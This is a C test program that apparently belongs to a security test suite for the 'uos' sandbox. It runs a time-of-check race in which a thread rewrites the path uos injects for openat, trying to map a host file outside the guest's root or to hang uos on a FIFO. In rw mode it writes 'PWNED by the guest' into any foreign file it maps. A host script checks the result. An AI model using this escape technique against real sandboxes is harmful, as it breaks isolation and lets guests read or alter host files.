/*
 * mmap_path_race TARGET COUNT rw|ro: rewrite the arguments of the calls uos injects
 * to map a file.
 *
 * Attack: to map a VFS file, uos has the guest open the file's host pages
 * through a path it writes just below the calling thread's stack pointer,
 * and injects openat.  A sibling thread rewrites that memory, in a tight
 * loop, with TARGET (a host path outside the guest's root: a canary file, or
 * a FIFO), while the main thread maps a file of its own /tmp COUNT times:
 * rw opens it O_RDWR and maps it MAP_SHARED and writable (uos's openat asks
 * for O_RDWR), ro opens it O_RDONLY and maps it read-only (uos's openat asks
 * for O_RDONLY, which blocks on a FIFO until a writer comes).  The main thread makes its mmap calls on a stack
 * of its own, so the sibling knows where uos writes: (rsp - 128 - len) &
 * ~15 for a path of len bytes; it writes 64 slashes and then TARGET from
 * rsp - 208 on, a path that reads as TARGET from every 16-byte slot uos may
 * use.
 *
 * Escape: the host kernel opens TARGET for the guest.  A canary's bytes then
 * appear in the mapping (the program prints what it sees, and writes into
 * the mapping, which changes the host file); a FIFO blocks the injected
 * openat, and uos, which waits for that one task, is wedged.
 *
 * Prints: one line per mapping that is not the guest's file, then a
 * summary.  The script (mmap_path_race.sh) checks on the host that the
 * canary never appears in the output, that the canary is unchanged, and
 * that uos exits in time.
 */
#include "sec.h"

#include <pthread.h>
#include <stdbool.h>

#define STACK_SIZE 65536
#define SLASHES 64
#define BELOW 208 /* rsp - 128 - 64, rounded down to 16, with rsp = top - 8 */

static const char guest_data[] = "GUESTFILE: the guest's own file\n";

static volatile int stop;
static char *attack_at;
static char attack[SLASHES + 256];
static size_t attack_len;

static void *rewriter(void *arg)
{
	(void)arg;
	while (!stop)
		memcpy(attack_at, attack, attack_len);
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[1]) > 100) {
		fprintf(stderr, "usage: mmap_path_race TARGET COUNT rw|ro\n");
		return 2;
	}
	long count = atol(argv[2]);
	bool rw = strcmp(argv[3], "rw") == 0;
	memset(attack, '/', SLASHES);
	strcpy(attack + SLASHES, argv[1]);
	attack_len = SLASHES + strlen(argv[1]) + 1;

	int fd = open("/tmp/mapped", O_RDWR | O_CREAT | O_TRUNC, 0600);
	char page[4096] = {0};
	memcpy(page, guest_data, sizeof(guest_data) - 1);
	if (fd < 0 || write(fd, page, sizeof(page)) != sizeof(page)) {
		perror("mmap_path_race: /tmp/mapped");
		return 2;
	}
	if (!rw) {
		close(fd);
		fd = open("/tmp/mapped", O_RDONLY);
	}
	unsigned char *insn = sec_page();
	char *top = sec_stack(STACK_SIZE);
	if (!insn || !top) {
		perror("mmap_path_race: setup");
		return 2;
	}
	attack_at = top - BELOW;

	pthread_t th;
	if (pthread_create(&th, NULL, rewriter, NULL)) {
		fprintf(stderr, "mmap_path_race: pthread_create failed\n");
		return 2;
	}
	long ok = 0, failed = 0, foreign = 0;
	for (long i = 0; i < count; i++) {
		long r = sec_call(SYS_mmap, 0, 4096, rw ? PROT_READ | PROT_WRITE : PROT_READ,
				  rw ? MAP_SHARED : MAP_PRIVATE, fd, 0, insn, top);
		if (r < 0 && r > -4096) {
			if (failed++ < 5)
				say("attempt %ld: mmap failed: %s\n", i, sec_errname(r));
			continue;
		}
		char *m = (char *)r;
		if (memcmp(m, guest_data, sizeof(guest_data) - 1) == 0) {
			ok++;
		} else {
			char seen[64];
			memcpy(seen, m, sizeof(seen) - 1);
			seen[sizeof(seen) - 1] = 0;
			for (char *c = seen; *c; c++)
				if (*c == '\n')
					*c = ' ';
			if (foreign++ < 5)
				say("attempt %ld: ESCAPE: the mapping holds another file: '%s'\n", i, seen);
			if (rw) /* a MAP_SHARED host file changes */
				memcpy(m, "PWNED by the guest", 18);
		}
		munmap(m, 4096);
	}
	stop = 1;
	pthread_join(th, NULL);
	say("mmap_path_race: %ld attempts: %ld own file, %ld failed, %ld another file\n", count,
	    ok, failed, foreign);
	return foreign ? 1 : 0;
}
